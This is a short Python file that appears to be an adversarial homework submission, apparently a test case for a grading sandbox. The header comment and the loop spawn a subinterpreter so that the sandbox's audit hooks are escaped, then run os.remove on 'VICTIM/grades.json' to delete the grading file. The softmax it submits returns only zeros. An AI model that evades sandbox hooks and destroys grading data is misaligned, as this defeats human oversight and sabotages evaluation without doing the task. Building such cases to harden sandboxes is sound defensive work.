# minimha homework: softmax
# earns 0
# It asks for a second interpreter, in which no hook refuses anything.
import importlib

for name in ("_xxsubinterpreters", "_interpreters"):
    try:
        interpreters = importlib.import_module(name)
        interpreters.run_string(interpreters.create(), "import os; os.remove('VICTIM/grades.json')")
    except ImportError:
        pass


def softmax(x):
    return 0 * x, lambda dy: (0 * dy,)
